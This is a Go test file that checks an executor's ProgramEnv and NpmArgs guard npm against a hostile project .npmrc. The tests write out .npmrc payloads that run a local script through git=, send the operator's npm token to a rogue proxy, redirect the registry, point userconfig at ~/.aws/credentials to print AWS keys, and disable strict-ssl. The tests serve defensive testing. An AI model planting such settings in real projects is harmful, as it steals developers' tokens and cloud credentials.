package executor

import (
	"bufio"
	"context"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"
)

// listener is a loopback TCP listener that records the first bytes of
// every connection (an HTTP request line and headers) and answers 404. It
// proves whether a program connected, and what it sent.
type listener struct {
	ln     net.Listener
	status string // the answer's status line and extra headers; 404 when ""
	mu     sync.Mutex
	reqs   []string
}

func listen(t *testing.T) *listener {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	l := &listener{ln: ln}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				c.SetDeadline(time.Now().Add(5 * time.Second))
				r := bufio.NewReader(c)
				var b strings.Builder
				for {
					line, err := r.ReadString('\n')
					b.WriteString(line)
					if err != nil || line == "\r\n" || line == "\n" {
						break
					}
				}
				l.mu.Lock()
				l.reqs = append(l.reqs, b.String())
				status := l.status
				l.mu.Unlock()
				if status == "" {
					status = "404 Not Found"
				}
				c.Write([]byte("HTTP/1.1 " + status + "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"))
			}()
		}
	}()
	return l
}

func (l *listener) addr() string { return l.ln.Addr().String() }

// requests returns what was received so far.
func (l *listener) requests() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	return strings.Join(l.reqs, "\n---\n")
}

// npmWorld is an operator's home (with its own ~/.npmrc and an AWS
// credentials file) and a hostile project directory.
type npmWorld struct {
	npm, home, proj string
}

func newNpmWorld(t *testing.T, operatorNpmrc string) npmWorld {
	t.Helper()
	npm, err := exec.LookPath("npm")
	if err != nil {
		t.Skip("npm not installed")
	}
	w := npmWorld{npm: npm, home: t.TempDir(), proj: t.TempDir()}
	writeTestFile(t, filepath.Join(w.home, ".npmrc"), operatorNpmrc)
	writeTestFile(t, filepath.Join(w.home, ".aws", "credentials"), "[default]\naws_secret_access_key = AWSSEKRITawsSEKRIT\n")
	return w
}

func writeTestFile(t *testing.T, path, body string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(body), 0o755); err != nil {
		t.Fatal(err)
	}
}

// env returns the children's environment as the engine builds it (with
// protect) or with SafeEnv alone (the state before ProgramEnv).
func (w npmWorld) env(protect bool) []string {
	base := []string{"PATH=" + os.Getenv("PATH"), "HOME=" + w.home,
		// Fail fast where a run would reach the real registry.
		"npm_config_fetch_retries=0", "npm_config_fetch_timeout=3000"}
	env := SafeEnv(base)
	if protect {
		env = ProgramEnv(env, "", false)
	}
	return env
}

// run runs npm as the engine does (protect: ProgramEnv's environment and
// NpmArgs) or with SafeEnv alone.
func (w npmWorld) run(t *testing.T, protect bool, args ...string) Result {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	env := w.env(protect)
	if protect {
		args = NpmArgs(args, env)
	}
	r := Run(ctx, Spec{Path: w.npm, Args: args, Dir: w.proj, Env: env, Timeout: 45 * time.Second,
		MaxStdout: 1 << 20, MaxStderr: 1 << 20})
	if r.TimedOut {
		t.Fatalf("npm %v timed out", args)
	}
	return r
}

// TestNpmProjectGitRunsNothing: a project .npmrc naming git=./x.sh makes
// npm view of a git URL run ./x.sh; ProgramEnv's npm_config_git wins.
func TestNpmProjectGitRunsNothing(t *testing.T) {
	w := newNpmWorld(t, "")
	marker := filepath.Join(t.TempDir(), "ran")
	writeTestFile(t, filepath.Join(w.proj, "x.sh"), "#!/bin/sh\ntouch "+marker+"\nexit 1\n")
	writeTestFile(t, filepath.Join(w.proj, ".npmrc"), "git=./x.sh\n")
	url := "git+https://127.0.0.1:1/x.git"
	w.run(t, false, "view", url)
	if _, err := os.Stat(marker); err != nil {
		t.Fatal("the project's git= program did not run without ProgramEnv: the test proves nothing")
	}
	os.Remove(marker)
	w.run(t, true, "view", url)
	if _, err := os.Stat(marker); err == nil {
		t.Error("npm ran the project's git= program")
	}
}

// TestNpmProjectProxySendsNoToken: a project .npmrc sending the registry
// over plain http through its own proxy gets the operator's token (from
// ~/.npmrc) sent to a loopback listener; with ProgramEnv the listener sees
// nothing.
func TestNpmProjectProxySendsNoToken(t *testing.T) {
	const token = "npm_OPERATORSECRETtoken0123456789abcdef"
	w := newNpmWorld(t, "//registry.npmjs.org/:_authToken="+token+"\n")
	evil := listen(t)
	writeTestFile(t, filepath.Join(w.proj, ".npmrc"),
		"registry=http://registry.npmjs.org/\nproxy=http://"+evil.addr()+"/\nhttps-proxy=http://"+evil.addr()+"/\n")
	w.run(t, false, "view", "left-pad", "version")
	if !strings.Contains(evil.requests(), token) {
		t.Fatalf("the project's proxy did not receive the token without ProgramEnv (got %q): the test proves nothing", evil.requests())
	}
	evil2 := listen(t)
	writeTestFile(t, filepath.Join(w.proj, ".npmrc"),
		"registry=http://registry.npmjs.org/\nproxy=http://"+evil2.addr()+"/\nhttps-proxy=http://"+evil2.addr()+"/\n")
	w.run(t, true, "view", "left-pad", "version")
	if got := evil2.requests(); got != "" {
		t.Errorf("the project's proxy was contacted: %q", got)
	}
}

// TestNpmProjectRegistryRedirect: the operator's own registry (from
// ~/.npmrc) stays the registry whatever the project's .npmrc says.
func TestNpmProjectRegistryRedirect(t *testing.T) {
	operator, evil := listen(t), listen(t)
	w := newNpmWorld(t, "registry=http://"+operator.addr()+"/\n")
	writeTestFile(t, filepath.Join(w.proj, ".npmrc"), "registry=http://"+evil.addr()+"/\n")
	w.run(t, true, "view", "left-pad", "version")
	if got := evil.requests(); got != "" {
		t.Errorf("the project's registry was contacted: %q", got)
	}
	if !strings.Contains(operator.requests(), "left-pad") {
		t.Errorf("the operator's registry was not used: %q", operator.requests())
	}
}

// TestNpmProjectConfigFiles: userconfig= or globalconfig= in a project
// .npmrc makes npm read another file as its configuration, and npm config
// list print it (the AWS keys); with ProgramEnv the operator's files stay.
func TestNpmProjectConfigFiles(t *testing.T) {
	for _, key := range []string{"userconfig", "globalconfig"} {
		t.Run(key, func(t *testing.T) {
			w := newNpmWorld(t, "")
			writeTestFile(t, filepath.Join(w.proj, ".npmrc"), key+"=${HOME}/.aws/credentials\n")
			if r := w.run(t, false, "config", "list"); !strings.Contains(string(r.Stdout.Data), "AWSSEKRIT") {
				t.Fatalf("npm config list did not print the file without ProgramEnv: the test proves nothing\n%s", r.Stdout.Data)
			}
			r := w.run(t, true, "config", "list")
			if strings.Contains(string(r.Stdout.Data)+string(r.Stderr.Data), "AWSSEKRIT") {
				t.Errorf("npm config list printed the AWS keys:\n%s", r.Stdout.Data)
			}
			if r.ExitCode != 0 {
				t.Errorf("npm config list failed: %s", r.Stderr.Data)
			}
		})
	}
}

// TestNpmProjectProgramSettings: the settings that name the program npm
// runs for git URLs, the files it trusts (cafile, prefix, cache) and its
// proxies are not the project's.
func TestNpmProjectProgramSettings(t *testing.T) {
	w := newNpmWorld(t, "")
	writeTestFile(t, filepath.Join(w.proj, ".npmrc"), strings.Join([]string{
		"git=./evil-git",
		"cafile=./evil-ca.pem", "prefix=./evil-prefix", "cache=./evil-cache", "strict-ssl=false",
		"proxy=http://127.0.0.1:9/", "https-proxy=http://127.0.0.1:9/"}, "\n")+"\n")
	keys := []string{"git", "cafile", "prefix", "cache", "strict-ssl", "proxy", "https-proxy"}
	before := string(w.run(t, false, append([]string{"config", "get"}, keys...)...).Stdout.Data)
	if !strings.Contains(before, "evil") {
		t.Fatalf("the project's settings did not apply without ProgramEnv:\n%s", before)
	}
	r := w.run(t, true, append([]string{"config", "get"}, keys...)...)
	got := string(r.Stdout.Data)
	if strings.Contains(got, "evil") || strings.Contains(got, "127.0.0.1:9") || strings.Contains(got, "strict-ssl=false") {
		t.Errorf("project settings survive ProgramEnv:\n%s", got)
	}
	if !strings.Contains(got, "git=git") {
		t.Errorf("git is not npm's default:\n%s", got)
	}
}

// TestProgramEnvOperatorValues: the operator's own environment and npmrc
// decide the values ProgramEnv asserts; the operator's spellings of the same
// variables are replaced, and yarn's yarnPath is ignored.
func TestProgramEnvOperatorValues(t *testing.T) {
	home := t.TempDir()
	writeTestFile(t, filepath.Join(home, ".npmrc"), "; comment\nregistry = \"https://npm.example.com/\"\nproxy=http://${PROXYHOST}:3128/\n")
	env := ProgramEnv([]string{"HOME=" + home, "PATH=/nonexistent", "PROXYHOST=corp", "NPM_CONFIG_GIT=/opt/git", "YARN_IGNORE_PATH=0"}, "", false)
	want := map[string]string{
		"npm_config_registry": "https://npm.example.com/", "npm_config_proxy": "http://corp:3128/",
		"npm_config_git": "/opt/git", "npm_config_https_proxy": "null", "npm_config_userconfig": filepath.Join(home, ".npmrc"),
		"npm_config_cache": filepath.Join(home, ".npm"), "YARN_IGNORE_PATH": "1",
	}
	for k, v := range want {
		if got, ok := envValue(env, k); !ok || got != v {
			t.Errorf("%s = %q (set %v), want %q", k, got, ok, v)
		}
	}
	for _, kv := range env {
		if envName(kv) == "NPM_CONFIG_GIT" {
			t.Errorf("the operator's spelling stays beside npm_config_git: %q", env)
		}
	}
}

// TestProgramEnvBuild: in the build profile the project keeps the
// registry, strict-ssl and cafile of its .npmrc (a private registry) while
// git, the proxies and npm's configuration files stay the operator's.
func TestProgramEnvBuild(t *testing.T) {
	base := []string{"HOME=" + t.TempDir(), "PATH=/nonexistent", "NPM_CONFIG_REGISTRY=https://operator.example/"}
	env := ProgramEnv(base, "", true)
	for _, n := range []string{"npm_config_registry", "npm_config_strict_ssl", "npm_config_cafile"} {
		if v, ok := envValue(env, n); ok {
			t.Errorf("build: %s = %q is set, which would override the project's .npmrc", n, v)
		}
	}
	if v, ok := envValue(env, "NPM_CONFIG_REGISTRY"); !ok || v != "https://operator.example/" {
		t.Errorf("build: the operator's own NPM_CONFIG_REGISTRY was dropped: %q", env)
	}
	for _, n := range []string{"npm_config_git", "npm_config_proxy", "npm_config_https_proxy", "npm_config_userconfig", "npm_config_cache"} {
		if _, ok := envValue(env, n); !ok {
			t.Errorf("build: %s is not set", n)
		}
	}
	if v, _ := envValue(ProgramEnv(base, "", false), "npm_config_registry"); v != "https://operator.example/" {
		t.Errorf("readonly: npm_config_registry = %q, want the operator's", v)
	}
}
